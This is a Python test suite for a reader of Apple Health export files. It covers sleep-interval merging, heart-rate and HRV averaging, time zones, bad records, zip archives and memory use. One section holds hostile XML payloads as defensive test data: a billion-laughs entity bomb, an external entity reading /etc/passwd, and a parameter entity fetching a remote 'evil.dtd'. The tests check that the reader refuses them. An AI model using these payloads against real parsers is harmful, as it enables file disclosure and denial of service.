"""Reading an Apple Health export: the traps of real files, a hostile file, and memory that does not grow."""

from __future__ import annotations

import datetime as dt
import itertools
import tracemalloc
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from journal.domain.imported import IMPORTED_FIELDS
from journal.errors import InvalidInput
from journal.io import apple_health
from journal.io.apple_health import (
    NIGHT_GAP,
    Stretch,
    awake_taken_out,
    merge_intervals,
    nights,
    read_apple_health,
    recognise,
)

FIXTURE = Path(__file__).parent.parent / "fixtures" / "apple_health" / "export.xml"
DAY = dt.date(2024, 3, 5)

SLEEP = "HKCategoryTypeIdentifierSleepAnalysis"
RHR = "HKQuantityTypeIdentifierRestingHeartRate"
SDNN = "HKQuantityTypeIdentifierHeartRateVariabilitySDNN"


def export(*records: str, doctype: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        + doctype
        + '<HealthData locale="en_GB">\n <ExportDate value="2024-03-08 09:00:00 +0000"/>\n'
        + "".join(f" {record}\n" for record in records)
        + "</HealthData>\n"
    )


def sleep(start: str, end: str, value: str = "AsleepCore", source: str = "Watch") -> str:
    return (
        f'<Record type="{SLEEP}" sourceName="{source}" startDate="{start}" endDate="{end}"'
        f' value="HKCategoryValueSleepAnalysis{value}"/>'
    )


def reading(kind: str, start: str, value: str, unit: str) -> str:
    dates = f'startDate="{start}" endDate="{start}"'
    return f'<Record type="{kind}" sourceName="Watch" unit="{unit}" {dates} value="{value}"/>'


def write(tmp_path: Path, text: str, name: str = "export.xml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def days(batch) -> dict[dt.date, dict]:
    return {day.day: day.values for day in batch.days}


def test_the_fixture_export_gives_each_day_its_values():
    batch = read_apple_health(FIXTURE)

    assert batch.source == "apple-health"
    assert days(batch) == {
        # Watch asleep 23:00-01:00, 01:15-06:30, the app's 23:30-00:45 and 05:00-06:40: the union is 7 h 25 min.
        DAY: {"sleep_hours": 7.42, "resting_hr": 54, "hrv": 50.5, "hrv_method": "sdnn"},
        dt.date(2024, 3, 6): {"sleep_hours": 7.5},  # the older "Asleep" value
    }
    assert batch.problems == [
        "export.xml record 14: resting heart rate must be beats a minute from 20 to 150, got 'lots'"
    ]
    # A heart rate, in bed, a blood pressure (a correlation and its top-level record), a workout, a summary.
    assert batch.skipped == 6
    assert batch.days[0].where == "export.xml record 3 and 9 more"
    assert all(set(day.values) <= set(IMPORTED_FIELDS) for day in batch.days)


def test_a_watch_and_a_phone_recording_the_same_night_count_it_once(tmp_path):
    path = write(
        tmp_path,
        export(
            sleep("2024-03-04 23:00:00 +0000", "2024-03-05 07:00:00 +0000", source="Watch"),
            sleep("2024-03-04 23:00:00 +0000", "2024-03-05 07:00:00 +0000", "AsleepUnspecified", source="Phone"),
            sleep("2024-03-05 06:00:00 +0000", "2024-03-05 07:30:00 +0000", "AsleepUnspecified", source="Phone"),
        ),
    )
    assert days(read_apple_health(path)) == {DAY: {"sleep_hours": 8.5}}


def test_time_in_bed_and_awake_is_not_sleep(tmp_path):
    path = write(
        tmp_path,
        export(
            sleep("2024-03-04 22:00:00 +0000", "2024-03-05 07:00:00 +0000", "InBed"),
            sleep("2024-03-04 23:00:00 +0000", "2024-03-05 02:00:00 +0000", "AsleepDeep"),
            sleep("2024-03-05 02:00:00 +0000", "2024-03-05 03:00:00 +0000", "Awake"),
            sleep("2024-03-05 03:00:00 +0000", "2024-03-05 06:00:00 +0000", "AsleepREM"),
        ),
    )
    batch = read_apple_health(path)
    assert days(batch) == {DAY: {"sleep_hours": 6.0}}
    assert batch.skipped == 1  # in bed


def test_a_sources_own_awake_inside_its_night_is_taken_out_of_it(tmp_path):
    path = write(
        tmp_path,
        export(
            sleep("2024-03-04 23:00:00 +0000", "2024-03-05 07:00:00 +0000", "AsleepUnspecified", source="Ring"),
            sleep("2024-03-05 02:00:00 +0000", "2024-03-05 02:45:00 +0000", "Awake", source="Ring"),
            sleep("2024-03-05 02:30:00 +0000", "2024-03-05 03:00:00 +0000", "Awake", source="Ring"),  # overlapping
        ),
    )
    assert days(read_apple_health(path)) == {DAY: {"sleep_hours": 7.0}}


def test_one_sources_awake_never_cuts_anothers_sleep(tmp_path):
    path = write(
        tmp_path,
        export(
            sleep("2024-03-04 23:00:00 +0000", "2024-03-05 07:00:00 +0000", "AsleepUnspecified", source="Phone"),
            sleep("2024-03-05 02:00:00 +0000", "2024-03-05 03:00:00 +0000", "Awake", source="Watch"),
        ),
    )
    assert days(read_apple_health(path)) == {DAY: {"sleep_hours": 8.0}}


def test_a_night_whose_end_was_awake_ends_when_sleep_did(tmp_path):
    """Asleep 20:00 to 00:30 by one record, awake from 23:50: the sleep ended on the 4th, and is that day's."""
    path = write(
        tmp_path,
        export(
            sleep("2024-03-04 20:00:00 +0000", "2024-03-05 00:30:00 +0000", "AsleepUnspecified", source="Ring"),
            sleep("2024-03-04 23:50:00 +0000", "2024-03-05 00:30:00 +0000", "Awake", source="Ring"),
        ),
    )
    assert days(read_apple_health(path)) == {DAY - dt.timedelta(days=1): {"sleep_hours": 3.83}}


def test_a_night_across_midnight_belongs_to_the_day_one_wakes_up_on(tmp_path):
    path = write(tmp_path, export(sleep("2024-03-04 21:30:00 +0000", "2024-03-05 05:15:00 +0000")))
    assert days(read_apple_health(path)) == {DAY: {"sleep_hours": 7.75}}


def test_waking_in_the_night_does_not_split_it_but_a_nap_is_its_own(tmp_path):
    path = write(
        tmp_path,
        export(
            sleep("2024-03-04 22:00:00 +0000", "2024-03-04 23:50:00 +0000"),  # awake over midnight, 2 hours
            sleep("2024-03-05 01:50:00 +0000", "2024-03-05 06:50:00 +0000"),
            sleep("2024-03-05 14:00:00 +0000", "2024-03-05 14:30:00 +0000"),  # a nap the same day
            sleep("2024-03-05 20:00:00 +0000", "2024-03-05 20:45:00 +0000"),  # dozing off, then the next night
            sleep("2024-03-05 23:00:00 +0000", "2024-03-06 06:00:00 +0000"),
        ),
    )
    assert days(read_apple_health(path)) == {
        DAY: {"sleep_hours": round(110 / 60 + 5 + 0.5, 2)},
        dt.date(2024, 3, 6): {"sleep_hours": 7.75},
    }


def test_a_time_keeps_its_own_offset_unless_the_runner_zone_is_given(tmp_path):
    # Woken at 23:30 in New York: 04:30 the next morning in London.
    path = write(
        tmp_path,
        export(
            sleep("2024-03-06 16:00:00 -0500", "2024-03-06 23:30:00 -0500"),
            reading(RHR, "2024-03-06 21:00:00 -0500", "50", "count/min"),
        ),
    )
    assert days(read_apple_health(path)) == {dt.date(2024, 3, 6): {"sleep_hours": 7.5, "resting_hr": 50}}
    london = read_apple_health(path, tz=ZoneInfo("Europe/London"))
    assert days(london) == {dt.date(2024, 3, 7): {"sleep_hours": 7.5, "resting_hr": 50}}
    assert days(read_apple_health(path, tz=dt.UTC)) == days(london)


def test_a_resting_heart_rate_for_a_whole_day_stays_on_its_day_in_any_zone(tmp_path):
    # Written for 5 March in Paris, from just after midnight: 4 March 23:02 in London at its start.
    path = write(
        tmp_path,
        export(
            f'<Record type="{RHR}" sourceName="Watch" unit="count/min" startDate="2024-03-05 00:02:10 +0100"'
            ' endDate="2024-03-05 23:58:40 +0100" value="50"/>'
        ),
    )
    for zone in (None, ZoneInfo("Europe/London"), ZoneInfo("America/Los_Angeles"), ZoneInfo("Asia/Tokyo")):
        assert days(read_apple_health(path, tz=zone)) == {DAY: {"resting_hr": 50}}, zone


def test_resting_heart_rate_is_the_day_mean_in_whole_beats(tmp_path):
    path = write(
        tmp_path,
        export(
            reading(RHR, "2024-03-05 00:01:00 +0100", "52", "count/min"),
            reading(RHR, "2024-03-05 07:00:00 +0100", "53", "count/min"),
            reading(RHR, "2024-03-06 00:01:00 +0100", "48.4", "count/min"),
        ),
    )
    assert days(read_apple_health(path)) == {DAY: {"resting_hr": 53}, dt.date(2024, 3, 6): {"resting_hr": 48}}


def test_hrv_is_the_day_mean_of_sdnn_readings_with_their_beats_nested(tmp_path):
    beats = "".join(f'<InstantaneousBeatsPerMinute bpm="{60 + n}" time="2:10:0{n}.00 AM"/>' for n in range(5))
    path = write(
        tmp_path,
        export(
            f'<Record type="{SDNN}" sourceName="Watch" unit="ms" startDate="2024-03-05 02:10:00 +0000"'
            f' endDate="2024-03-05 02:11:00 +0000" value="41.25"><MetadataEntry key="k" value="v"/>'
            f"<HeartRateVariabilityMetadataList>{beats}</HeartRateVariabilityMetadataList></Record>",
            reading(SDNN, "2024-03-05 15:00:00 +0000", "60.5", "ms"),
        ),
    )
    batch = read_apple_health(path)
    assert days(batch) == {DAY: {"hrv": 50.9, "hrv_method": "sdnn"}}
    assert batch.problems == [] and batch.skipped == 0


def test_a_record_that_cannot_be_read_is_reported_and_the_rest_is_read(tmp_path):
    path = write(
        tmp_path,
        export(
            reading(RHR, "2024-03-05 00:01:00 +0000", "fast", "count/min"),
            reading(RHR, "2024-03-05 00:01:00 +0000", "900", "count/min"),
            reading(RHR, "yesterday", "50", "count/min"),
            reading(RHR, "2024-02-30 00:01:00 +0000", "50", "count/min"),
            reading(SDNN, "2024-03-05 02:00:00 +0000", "45", "s"),
            f'<Record type="{SDNN}" sourceName="Watch" unit="ms" startDate="2024-03-05 02:00:00 +0000"'
            ' endDate="2024-03-05 01:00:00 +0000" value="45"/>',
            sleep("2024-03-05 06:00:00 +0000", "2024-03-04 23:00:00 +0000"),
            sleep("2024-03-04 23:00:00 +0000", "2024-03-05 06:00:00 +0000", "Dreaming"),
            reading(RHR, "2024-03-05 00:01:00 +0000", "51", "count/min"),
            sleep("2024-03-04 23:00:00 +0000", "2024-03-05 06:00:00 +0000"),
        ),
    )
    batch = read_apple_health(path)
    assert days(batch) == {DAY: {"sleep_hours": 7.0, "resting_hr": 51}}
    assert [problem.split(":", 1)[0] for problem in batch.problems] == [f"export.xml record {n}" for n in range(1, 9)]
    assert "beats a minute from 20 to 150, got '900'" in batch.problems[1]
    assert "startDate is not a time like 2020-07-08 01:05:06 +0100, got 'yesterday'" in batch.problems[2]
    assert "is not a real time" in batch.problems[3]
    assert "HeartRateVariabilitySDNN in 's', where the journal reads 'ms'" in batch.problems[4]
    assert "HeartRateVariabilitySDNN that ends (2024-03-05 01:00:00+00:00) before it starts" in batch.problems[5]
    assert "sleep that ends (2024-03-04 23:00:00+00:00) before it starts" in batch.problems[6]
    assert "'HKCategoryValueSleepAnalysisDreaming'" in batch.problems[7]


def test_sleep_adding_up_to_more_than_a_day_is_a_problem(tmp_path):
    path = write(tmp_path, export(sleep("2024-03-04 01:00:00 +0000", "2024-03-05 06:00:00 +0000")))
    batch = read_apple_health(path)
    assert batch.days == []
    assert batch.problems == ["export.xml record 1: sleep on 2024-03-05 adds up to 29.0 hours, more than a day"]


def test_a_control_character_inside_a_text_does_not_stop_the_file(tmp_path):
    path = tmp_path / "export.xml"
    text = export(
        '<Record type="X" sourceName="Watch\x0bSeries" startDate="a" endDate="b"/>',
        sleep("2024-03-04 23:00:00 +0000", "2024-03-05 06:00:00 +0000"),
    )
    path.write_text(text, encoding="utf-8")
    assert days(read_apple_health(path)) == {DAY: {"sleep_hours": 7.0}}


# A hostile file is refused at its declarations, before a byte after them is read.

BILLION_LAUGHS = (
    '<!DOCTYPE HealthData [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{n} "{f"&lol{n - 1};" if n > 1 else "&lol;" * 10}">\n' for n in range(1, 10))
    + "]>\n"
)
EXTERNAL = '<!DOCTYPE HealthData [\n <!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n'
PARAMETER = '<!DOCTYPE HealthData [\n <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd">\n %remote;\n]>\n'


@pytest.mark.parametrize(
    ("doctype", "used"),
    [(BILLION_LAUGHS, "&lol9;"), (EXTERNAL, "&secret;"), (PARAMETER, "")],
    ids=["billion-laughs", "external-entity", "parameter-entity"],
)
def test_a_file_declaring_entities_is_refused_at_once(tmp_path, monkeypatch, doctype, used):
    # Its records go on for megabytes after the declarations: none of them is read.
    filler = reading("HKQuantityTypeIdentifierStepCount", "2024-03-05 00:01:00 +0000", "12", "count")
    text = export(
        f'<Record type="{RHR}" sourceName="{used}" unit="count/min" startDate="2024-03-05 00:01:00 +0000"'
        ' endDate="2024-03-05 00:01:00 +0000" value="50"/>',
        *[filler] * 40_000,
        doctype=doctype,
    )
    path = write(tmp_path, text)
    read = []
    original = apple_health._Legible.read
    monkeypatch.setattr(
        apple_health._Legible, "read", lambda self, size=-1: read.append(got := original(self, size)) or got
    )

    tracemalloc.start()
    try:
        with pytest.raises(InvalidInput, match=r"^export\.xml was refused: it declares XML entities") as refused:
            read_apple_health(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "\n" not in str(refused.value)
    assert sum(map(len, read)) <= 64 * 1024 < path.stat().st_size // 50
    assert peak < 4_000_000  # nothing was expanded


@pytest.mark.parametrize("at", [65_536 - 20, 65_536 - 3, 65_536, 3 * 65_536 + 7])
def test_a_declaration_across_the_reader_chunks_is_refused_all_the_same(tmp_path, at):
    # A long DTD puts the declaration across the boundary between two reads (or well after the first).
    opening = "<!DOCTYPE HealthData [\n<!-- "
    padding = "x" * (at - len('<?xml version="1.0" encoding="UTF-8"?>\n') - len(opening) - len(" -->\n"))
    doctype = f'{opening}{padding} -->\n<!ENTITY lol "{"lol" * 100}">\n]>\n'
    text = export(f'<Record type="{RHR}" sourceName="&lol;&lol;" unit="count/min" value="50"/>', doctype=doctype)
    assert text.index("<!ENTITY") == at
    with pytest.raises(InvalidInput, match="declares XML entities"):
        read_apple_health(write(tmp_path, text))


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        ('<!ENTITY lol "lol">', "invalid token"),  # no declaration once the root has started
        (f'<Record type="{RHR}" sourceName="&lol;" unit="count/min" value="50"/>', "undefined entity"),
        (
            f'<Record type="{RHR}" sourceName="&#0;" unit="count/min" value="50"/>',
            "reference to invalid character number",
        ),
    ],
    ids=["declaration-in-the-body", "undeclared-entity", "forbidden-character"],
)
def test_nothing_in_the_body_can_bring_an_entity_in(tmp_path, record, reason):
    with pytest.raises(InvalidInput, match=rf"not well-formed XML at line 4, column \d+ \({reason}\)"):
        read_apple_health(write(tmp_path, export(record)))


def test_a_long_dtd_without_entities_reads(tmp_path):
    attributes = "".join(f"<!ATTLIST Record attribute{n} CDATA #IMPLIED>\n" for n in range(3000))
    doctype = f"<!DOCTYPE HealthData [\n<!ELEMENT HealthData ANY>\n{attributes}]>\n"
    assert len(doctype) > 2 * 65_536
    path = write(tmp_path, export(sleep("2024-03-04 23:00:00 +0000", "2024-03-05 06:00:00 +0000"), doctype=doctype))
    assert days(read_apple_health(path)) == {DAY: {"sleep_hours": 7.0}}


def test_apple_dtd_of_elements_and_attributes_reads(tmp_path):
    doctype = "<!DOCTYPE HealthData [\n<!ELEMENT HealthData ANY>\n<!ATTLIST HealthData locale CDATA #REQUIRED>\n]>\n"
    path = write(tmp_path, export(sleep("2024-03-04 23:00:00 +0000", "2024-03-05 06:00:00 +0000"), doctype=doctype))
    assert days(read_apple_health(path)) == {DAY: {"sleep_hours": 7.0}}


# The Health app of iOS 16 left a declaration of its DTD open: the DTD is left out, never the file.
OPEN_DTD = (
    "<!DOCTYPE HealthData [\n<!ELEMENT HealthData ANY>\n<!ATTLIST VisionPrescription\n"
    "  type CDATA #REQUIRED\n  brand CDATA #IMPLIED\n{inside}<!ELEMENT Attachment EMPTY>\n]>\n"
)


def test_an_export_whose_dtd_leaves_a_declaration_open_reads_without_it(tmp_path):
    doctype = OPEN_DTD.format(inside="")
    path = write(tmp_path, export(sleep("2024-03-04 23:00:00 +0000", "2024-03-05 06:00:00 +0000"), doctype=doctype))
    batch = read_apple_health(path)
    assert days(batch) == {DAY: {"sleep_hours": 7.0}}
    assert batch.problems == []


def test_without_its_dtd_an_export_keeps_its_line_numbers(tmp_path):
    doctype = OPEN_DTD.format(inside="")
    text = export(sleep("2024-03-04 23:00:00 +0000", "2024-03-05 06:00:00 +0000"), doctype=doctype)
    path = write(tmp_path, text.replace("<Record", "<Record <", 1))
    lines = text.count("\n", 0, text.index("<Record")) + 1
    with pytest.raises(InvalidInput, match=f"not well-formed XML at line {lines}, column 10"):
        read_apple_health(path)


@pytest.mark.parametrize("where", ["before", "after"])
def test_an_entity_in_a_dtd_left_open_is_refused_all_the_same(tmp_path, where):
    entity = '<!ENTITY lol "lol">\n'
    doctype = OPEN_DTD.format(inside=entity if where == "after" else "").replace(
        "<!ELEMENT HealthData ANY>\n", "<!ELEMENT HealthData ANY>\n" + (entity if where == "before" else "")
    )
    path = write(tmp_path, export(sleep("2024-03-04 23:00:00 +0000", "2024-03-05 06:00:00 +0000"), doctype=doctype))
    with pytest.raises(InvalidInput, match=r"^export\.xml was refused: it declares XML entities"):
        read_apple_health(path)


def test_the_zip_is_read_as_it_is_never_unpacked(tmp_path):
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as zipped:
        zipped.write(FIXTURE, "apple_health_export/export.xml")
        zipped.writestr("apple_health_export/export_cda.xml", "<ClinicalDocument/>")
        zipped.writestr("apple_health_export/workout-routes/route_1.gpx", "<gpx/>")
    before = sorted(tmp_path.rglob("*"))

    batch = read_apple_health(archive)

    assert days(batch) == days(read_apple_health(FIXTURE))
    assert batch.problems[0].startswith("export.xml record 14:")
    assert sorted(tmp_path.rglob("*")) == before
    assert recognise(archive)


def test_a_zip_without_the_export_is_refused(tmp_path):
    archive = tmp_path / "photos.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("holiday/export.txt", "nothing")
    with pytest.raises(InvalidInput, match=r"holds no apple_health_export/export\.xml"):
        read_apple_health(archive)
    assert not recognise(archive)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", r"^export.xml is not well-formed XML at line 1, column 1 \(no element found\)"),
        ("not xml at all", r"^export.xml is not well-formed XML at line 1, column 1 \(syntax error\)"),
        (export(sleep("a", "b")).replace("</HealthData>", ""), r"at line 6, column 1 \(no element found\)"),
        ('<?xml version="1.0"?>\n<gpx version="1.1"/>', r"XML but not an Apple Health export: its root is <gpx>"),
    ],
    ids=["empty", "not-xml", "broken-off", "another-root"],
)
def test_a_file_that_is_not_an_export_is_refused_in_one_line(tmp_path, text, message):
    with pytest.raises(InvalidInput, match=message) as refused:
        read_apple_health(write(tmp_path, text))
    assert "\n" not in str(refused.value)


def test_a_missing_file_is_refused(tmp_path):
    with pytest.raises(InvalidInput, match="does not exist"):
        read_apple_health(tmp_path / "export.xml")


def test_recognise_looks_at_the_root_after_the_dtd(tmp_path):
    assert recognise(FIXTURE)
    assert recognise(write(tmp_path, export(doctype=BILLION_LAUGHS)))  # it is one; reading it refuses it
    assert not recognise(write(tmp_path, '<?xml version="1.0"?>\n<gpx/>', "route.gpx"))
    assert not recognise(write(tmp_path, "date,restingHR\n2024-03-05,50\n", "wellness.csv"))
    assert not recognise(tmp_path / "missing.xml")
    assert not recognise(tmp_path)


# Memory: it follows the days the journal keeps, not the size of the file.


def _big_export(path: Path, records: int) -> None:
    heart = (
        '<Record type="HKQuantityTypeIdentifierHeartRate" sourceName="Watch" unit="count/min"'
        ' startDate="2024-03-05 10:00:00 +0000" endDate="2024-03-05 10:00:00 +0000" value="61">'
        '<MetadataEntry key="HKMetadataKeyHeartRateMotionContext" value="0"/></Record>\n'
    )
    with path.open("w", encoding="utf-8") as file:
        file.write(
            export(sleep("2024-03-04 23:00:00 +0000", "2024-03-05 06:00:00 +0000")).replace("</HealthData>\n", "")
        )
        for _ in range(records // 1000):
            file.write(heart * 1000)
        file.write("</HealthData>\n")


def test_memory_does_not_grow_with_the_file(tmp_path):
    peaks = []
    for records in (5_000, 40_000):
        path = tmp_path / f"export-{records}.xml"
        _big_export(path, records)
        tracemalloc.start()
        try:
            batch = read_apple_health(path)
            peaks.append(tracemalloc.get_traced_memory()[1])
        finally:
            tracemalloc.stop()
        assert batch.skipped == records and days(batch) == {DAY: {"sleep_hours": 7.0}}
    assert (tmp_path / "export-40000.xml").stat().st_size > 8_000_000
    assert peaks[1] < peaks[0] + 500_000, peaks


# The merging of stretches asleep, as properties.

stretches = st.lists(
    st.tuples(st.integers(0, 2000), st.integers(0, 300)).map(lambda pair: (pair[0], pair[0] + pair[1])), max_size=40
)


@given(stretches)
def test_merged_stretches_are_disjoint_and_in_order(intervals):
    merged = merge_intervals(intervals)
    assert all(start <= end for start, end in merged)
    assert all(earlier[1] < later[0] for earlier, later in itertools.pairwise(merged))


@given(stretches)
def test_the_time_asleep_is_the_union_never_more(intervals):
    merged = merge_intervals(intervals)
    total = sum(end - start for start, end in merged)
    union = set().union(*(range(start, end) for start, end in intervals))
    assert total == len(union)
    assert total <= sum(end - start for start, end in intervals)
    if intervals:
        assert total <= max(end for _, end in intervals) - min(start for start, _ in intervals)


@given(stretches, st.randoms())
def test_the_same_stretch_twice_or_in_any_order_counts_once(intervals, random):
    shuffled = intervals * 2
    random.shuffle(shuffled)
    assert merge_intervals(shuffled) == merge_intervals(intervals)


@given(stretches)
def test_nights_share_out_the_union_and_each_ends_at_its_last_stretch(intervals):
    base = dt.datetime(2024, 3, 5, tzinfo=dt.UTC).timestamp()
    minute = 60.0
    asleep = [
        Stretch(base + start * minute, base + end * minute, dt.datetime.fromtimestamp(base + end * minute, dt.UTC), n)
        for n, (start, end) in enumerate(intervals, start=1)
    ]
    found = nights(asleep)
    union = sum(end - start for start, end in merge_intervals((s.start, s.end) for s in asleep))
    assert sum(night.asleep for night in found) == pytest.approx(union)
    assert sorted(number for night in found for number in night.records) == list(range(1, len(intervals) + 1))
    ends = [night.ended.timestamp() for night in found]
    assert ends == sorted(ends)
    for night in found:
        reaches = [stretch for stretch in asleep if stretch.record in night.records]
        assert night.ended.timestamp() == max(stretch.end for stretch in reaches)
        assert night.asleep <= night.ended.timestamp() - min(stretch.start for stretch in reaches)
    assert NIGHT_GAP == 3 * 3600


@given(stretches, stretches, st.sampled_from(["Watch", "Ring"]))
def test_awake_takes_out_exactly_its_own_sources_time(asleep_times, awake_times, awake_source):
    base = dt.datetime(2024, 3, 5, tzinfo=dt.UTC).timestamp()
    asleep = [
        Stretch(base + start, base + end, dt.datetime.fromtimestamp(base + end, dt.UTC), n, "Watch")
        for n, (start, end) in enumerate(asleep_times, start=1)
        if end > start
    ]
    awake = {awake_source: [(base + start, base + end) for start, end in awake_times]}
    kept = awake_taken_out(asleep, awake)

    def moments(pairs):
        return set().union(*(range(int(start - base), int(end - base)) for start, end in pairs))

    cut = moments(awake[awake_source]) if awake_source == "Watch" else set()
    assert moments((s.start, s.end) for s in kept) == moments((s.start, s.end) for s in asleep) - cut
    for piece in kept:
        assert piece.start < piece.end and piece.ended.timestamp() == piece.end
        original = next(stretch for stretch in asleep if stretch.record == piece.record)
        assert original.start <= piece.start and piece.end <= original.end


def test_progress_is_told_the_share_read_rising_to_the_whole_file(tmp_path):
    """For the bar `journal import` draws on a terminal: a share after each chunk, never falling, ending at 1."""
    from benchmarks.health import write_export

    path = tmp_path / "export.xml"
    write_export(path, 0.5)
    shares: list[float] = []
    read_apple_health(path, progress=shares.append)
    assert len(shares) > 3 and shares == sorted(shares) and shares[-1] == 1.0
